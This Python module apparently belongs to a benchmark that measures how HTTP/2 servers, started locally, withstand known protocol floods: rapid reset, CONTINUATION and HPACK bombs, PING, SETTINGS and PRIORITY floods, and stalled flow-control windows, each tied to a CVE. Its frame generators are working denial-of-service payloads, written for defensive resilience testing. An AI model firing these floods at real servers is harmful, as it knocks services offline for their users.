"""What one client can make a server spend with frames that cost it nothing."""

import contextlib
import itertools
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

import backend
import peers
from h2_wire import (
    CODES, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, Closed, Connection, data, field, fields, frame, headers, integer, ping, request, reset, settings, text,
    window_update,
)  # fmt: skip

TITLE = "HTTP/2 abuse"
SHOW_ALL = True
MIB = 1 << 20
GROWTH, LATENCY, REQUESTS, STALLED = 5 * MIB, 0.2, 1_000, 64 * 1024
BLOCK = bytes(64 * 1024)
CONNECTIONS, STREAMS = 5, 100  # of the stalled ones
PATIENCE = 5.0  # what a client that takes nothing is granted


def about():
    return f"""\
The floods of the CVEs of 2019 to 2025 on one h2c connection, for up to 5 s each, against a program that has just
been started and has served some requests; in a cell: after how many frames (or streams) it ended the connection, by what code;
requests that reached the backend; growth of resident memory, of all its processes, at its peak; the longest time in
which it served somebody else (a new TLS connection and a request, ten a second); CPU time. A case fails where memory
grows by more than {GROWTH // MIB} MiB, where others wait for more than {LATENCY * 1000:.0f} ms longer than before, or where more
than {REQUESTS:,} requests reach the backend. *Stalled windows*: {CONNECTIONS * STREAMS} streams on {CONNECTIONS} connections ask for 2 MiB each
and open no window; memory for each stream, at most {STALLED // 1024} KiB, and whether the program gives them up after twice
the {PATIENCE:.0f} s that a client may take nothing (`idle_timeout`, `send_timeout`, `timeout client`; Caddy has no such deadline)."""


def streams():
    return itertools.count(1, 2)


def rapid_reset():
    """CVE-2023-44487: a request, and its end."""
    for stream in itertools.islice(streams(), 20_000):
        yield headers(stream, path="/slow") + reset(stream)


def made_to_reset():
    """CVE-2025-8671: a request, and an error of its stream, which the server resets."""
    for stream in itertools.islice(streams(), 20_000):
        yield headers(stream, path="/slow") + window_update(stream, 0)


def made_to_reset_by_window():
    for stream in itertools.islice(streams(), 20_000):
        yield headers(stream, path="/slow") + window_update(stream, (1 << 31) - 1)


def answered_and_reset():
    """Streams whose answers have come before they are reset."""
    for stream in itertools.islice(streams(), 20_000):
        yield headers(stream, path="/") + reset(max(1, stream - 20))


def malformed_streams():
    for stream in itertools.islice(streams(), 20_000):
        yield headers(stream, path="/slow", more=[("connection", "close")])


def continuations():
    """CVE-2024-27316 and its kin: a block without end, of fields."""
    yield headers(1, end_headers=False)
    some = fields([("x-a", "a" * 1000)] * 16)
    for _ in range(5_000):
        yield frame(CONTINUATION, 0, 1, some)


def empty_continuations():
    yield headers(1, end_headers=False)
    for _ in range(200_000):
        yield frame(CONTINUATION, 0, 1)


def hpack_bomb():
    """One field of 4,000 octets in the table, named 16,000 times by each request."""
    entry = b"\x40" + text("x-a") + text("a" * 3_900)
    yield headers(1, fields(request(path="/slow")) + entry)
    for stream in itertools.islice(streams(), 1, 200):
        yield headers(stream, fields(request(path="/slow")) + integer(62, 7, 0x80) * 16_000)


def many_cookies():
    """RFC 9113 section 8.2.3 lets a client split Cookie."""
    for stream in itertools.islice(streams(), 300):
        yield headers(stream, fields(request(path="/slow", more=[("cookie", "a=1")] * 1_000)))


def setting_flood():
    for _ in range(100_000):
        yield settings((INITIAL_WINDOW_SIZE, 65_535))


def ping_flood():
    for _ in range(200_000):
        yield ping()


def empty_data():
    yield headers(1, method="POST", path="/slow", end=False)
    for _ in range(200_000):
        yield data(1, end=False)


def tiny_data():
    yield headers(1, method="POST", path="/slow", end=False)
    for _ in range(60_000):
        yield frame(DATA, 0x8, 1, b"\xc8x" + bytes(200))


def window_flood():
    yield headers(1, method="POST", path="/slow", end=False)
    for _ in range(200_000):
        yield window_update(1, 1) + window_update(0, 1)


def priority_flood():
    for number in range(200_000):
        yield frame(PRIORITY, 0, 1 + 2 * (number % 1_000), struct.pack("!IB", 3 + 2 * ((number * 7) % 1_000), 5))


def unknown_frames():
    for _ in range(200_000):
        yield frame(0x42, 0, 0, b"x")


# Name, frames, whether the client reads what comes.
FLOODS = (
    ("rapid reset", rapid_reset, True),
    ("streams that the server is made to reset (WINDOW_UPDATE of 0)", made_to_reset, True),
    ("streams that the server is made to reset (window beyond 2^31)", made_to_reset_by_window, True),
    ("answered streams that are reset", answered_and_reset, True),
    ("malformed streams", malformed_streams, True),
    ("CONTINUATION without end", continuations, True),
    ("empty CONTINUATION", empty_continuations, True),
    ("HPACK bomb", hpack_bomb, True),
    ("many cookies", many_cookies, True),
    ("SETTINGS, answers not read", setting_flood, False),
    ("PING, answers not read", ping_flood, False),
    ("empty DATA", empty_data, True),
    ("DATA of one octet and 200 of padding", tiny_data, True),
    ("WINDOW_UPDATE", window_flood, True),
    ("PRIORITY", priority_flood, True),
    ("unknown frames", unknown_frames, True),
)


def answer(request):
    if request.target == "/slow":
        time.sleep(0.3)
    if request.target == "/big":
        return itertools.chain([b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % (2 * MIB)], itertools.repeat(BLOCK, 32))
    return b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def run(start):
    cases = []
    for name, frames, reads in FLOODS:
        for attempt in range(3):
            case = flooded(start, name, frames, reads)
            if case[1] == "pass":
                break  # else it may have been the machine's fault
        cases.append(case)
    return [*cases, *stalled(start)]


def flooded(start, name, frames, reads):
    with backend.Backend(answer=answer) as origin, start(backend=origin.address) as target:
        warm_up(target)
        before = worst_of(target, 1.0)
        requests, cpu, rss = len(origin.requests), target.cpu(), target.rss()
        with Watch(target) as watch:
            sent, end = flood(target.h2c, frames(), reads)
            time.sleep(0.3)
        grown, cpu = max(0, watch.peak - rss), target.cpu() - cpu
        seen = sum(request.target != "/probe" for request in list(origin.requests)[requests:])
    is_bad = grown > GROWTH or watch.worst > before + LATENCY or seen > REQUESTS
    note = f"{end} {sent:,}; backend {seen:,}; {grown / MIB:+.1f} MiB; {watch.worst * 1000:.0f} ms; {cpu:.2f} s CPU"
    return name, "fail" if is_bad else "pass", note


def warm_up(target):
    for _ in range(3):
        with Connection(target.h2c) as connection:
            for stream in itertools.islice(streams(), 50):
                connection.send(headers(stream))
            connection.wait(lambda event: event[0] == "data" and event[1] == 99 and event[3])
        probe(target.tls, ssl.create_default_context(cafile=target.ca), target.host)


def flood(address, frames, reads, seconds=5.0):
    """How many of `frames` were sent until the connection ended, and how it did."""
    sock = socket.create_connection(address, timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
    sock.sendall(PREFACE + settings())
    sock.setblocking(False)
    got, sent, end = bytearray(), 0, time.monotonic() + seconds
    pending, count, is_open = b"", 0, True
    try:
        while is_open and time.monotonic() < end:
            if not pending:
                block = list(itertools.islice(frames, 20))
                if not block:
                    break
                pending, count = b"".join(block), len(block)
            readable, writable, _ = select.select([sock] if reads else [], [sock], [], 0.1)
            if readable:
                part = sock.recv(65536)
                is_open = bool(part)
                got += part
            if writable and is_open:
                pending = pending[sock.send(pending) :]
                sent += 0 if pending else count
        if not reads or not is_open:
            sock.settimeout(0.5)
            with contextlib.suppress(TimeoutError):
                while part := sock.recv(65536):
                    got += part
                is_open = False
    except OSError:
        is_open = False
        with contextlib.suppress(OSError):
            sock.settimeout(0.2)
            got += sock.recv(65536)
    finally:
        sock.close()
    said = goaway(got)
    return sent, said and f"{said} after" or ("closed after" if not is_open else "took")


def goaway(got):
    """The code of the last GOAWAY among the frames."""
    found = None
    while len(got) >= 9:
        size, kind = struct.unpack("!IB", b"\0" + got[:4])
        if kind == GOAWAY and len(got) >= 17:
            number = struct.unpack("!I", got[13:17])[0]
            found = CODES[number] if number < len(CODES) else str(number)
        del got[: 9 + size]
    return found


class Watch:
    """Memory and the time that others wait, while something happens.

    Who waits is another process: the threads of this one are busy with the flood.
    """

    def __init__(self, target):
        self.target, self.peak, self.worst = target, target.rss(), 0.0
        self.is_over = threading.Event()
        self.weighing = threading.Thread(target=self.weigh, daemon=True)

    def __enter__(self):
        command = [sys.executable, __file__, *map(str, self.target.tls), self.target.ca, self.target.host]
        self.asking = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.asking.stdout.readline()  # its first answer has come
        self.weighing.start()
        return self

    def __exit__(self, *error):
        self.is_over.set()
        self.worst = float(self.asking.communicate()[0].splitlines()[-1])
        self.weighing.join()

    def weigh(self):
        while not self.is_over.wait(0.05):
            self.peak = max(self.peak, self.target.rss())


def worst_of(target, seconds):
    with Watch(target) as watch:
        time.sleep(seconds)
    return watch.worst


def ask(host, port, ca, name):
    """Ten times a second, until standard input ends; says when it has begun, and at the end the longest wait."""
    worst = 0.0
    context = ssl.create_default_context(cafile=ca)
    print(probe((host, int(port)), context, name), flush=True)
    while not select.select([sys.stdin], [], [], 0.1)[0]:
        worst = max(worst, probe((host, int(port)), context, name))
    print(worst)


def probe(address, context, name):
    """Seconds that somebody else waits for an answer; 10 when there is none."""
    began = time.monotonic()
    with contextlib.suppress(OSError):
        with socket.create_connection(address, timeout=10) as plain, context.wrap_socket(plain, server_hostname=name) as sock:
            sock.sendall(b"GET /probe HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n")
            if b" 200 " in sock.recv(100):
                return time.monotonic() - began
    return 10.0


def stalled(start):
    """CVE-2019-9517: answers that nobody takes."""
    deadlines = peers.Deadlines(body=PATIENCE, idle=PATIENCE)
    with backend.Backend(answer=answer) as origin, start(backend=origin.address, deadlines=deadlines) as target:
        warm_up(target)
        rss = target.rss()
        began = time.monotonic()
        connections = [Connection(target.h2c, window=0) for _ in range(CONNECTIONS)]
        for connection in connections:
            connection.send(b"".join(headers(stream, path="/big") for stream in itertools.islice(streams(), STREAMS)))
        peak, heads = rss, 0
        while time.monotonic() < began + PATIENCE - 0.5:
            time.sleep(0.1)
            peak = max(peak, target.rss())
        open_before = sum(request.target == "/big" for request in list(origin.requests))
        each = (peak - rss) / max(1, open_before)
        ended = wait_until_given_up(connections, began + 2.5 * PATIENCE)
        with contextlib.suppress(OSError):
            for connection in connections:
                connection.close()
        took = f"after {ended - began:.1f} s" if ended else f"not within {2.5 * PATIENCE:.0f} s"
        time.sleep(1)
        left = (target.rss() - rss) / MIB
    return [
        ("stalled windows: memory of a stream", "fail" if each > STALLED or open_before < CONNECTIONS * STREAMS // 2 else "pass",
         f"{each / 1024:.0f} KiB; {open_before} at the backend; {left:+.1f} MiB afterwards"),
        ("stalled windows: given up", "pass" if ended else "fail", took),
    ]  # fmt: skip


def wait_until_given_up(connections, end):
    """When every stream had been reset, or its connection ended; None if that did not come."""
    left = {connection: STREAMS for connection in connections}
    while time.monotonic() < end:
        for connection in [connection for connection, count in left.items() if count > 0]:
            try:
                while event := connection.event(time.monotonic()):  # what has come; the windows stay closed
                    left[connection] -= event[0] == "reset"
                    if event[0] == "goaway" and event[1] != "NO_ERROR":
                        left[connection] = 0
            except Closed:
                left[connection] = 0
        if not any(count > 0 for count in left.values()):
            return time.monotonic()
        time.sleep(0.1)
    return None


def figures(cases):
    memory = next((case.note.split(";")[0] for case in cases if "memory of a stream" in case.id), None)
    return {"a stalled stream": memory} if memory else {}


if __name__ == "__main__":
    ask(*sys.argv[1:])
